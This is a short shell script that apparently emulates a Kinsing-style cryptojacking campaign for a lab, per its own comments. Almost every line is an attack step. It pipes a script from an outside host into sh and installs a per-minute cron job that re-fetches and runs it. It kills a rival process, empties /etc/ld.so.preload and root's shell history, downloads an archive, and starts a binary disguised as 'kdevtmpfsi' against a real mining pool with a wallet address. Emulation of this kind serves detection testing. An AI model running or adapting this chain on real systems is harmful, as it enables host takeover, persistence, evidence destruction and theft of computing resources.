#!/bin/sh
# A Kinsing-style campaign end to end (run by ns.sh): fetch the loader, kill the competitor,
# persist with cron, hide with ld.so.preload (written empty, so nothing is preloaded), clear history, then fetch, unpack and start
# the miner (the lab's fake miner, renamed kdevtmpfsi in /tmp) against the lab's pool.
set -eu
mkdir -p "$LAB_TMP/kc/campaign"
d="$LAB_TMP/kc/campaign"
sh -c 'curl -fsS http://downloads.example.org/kinsing.sh | sh'
pkill -f kworkerds || true
echo '* * * * * curl -fsS http://downloads.example.org/kinsing.sh | sh' | crontab -
: > /etc/ld.so.preload
: > /root/.bash_history
curl -fsS -o "$d/kinsing.tgz" http://downloads.example.org/kinsing.tgz
cp "$LAB_DIR/bin/miner" "$d/kdevtmpfsi"
chmod +x "$d/kdevtmpfsi"
LAB_NET=tcp4 "$d/kdevtmpfsi" -o pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -p x
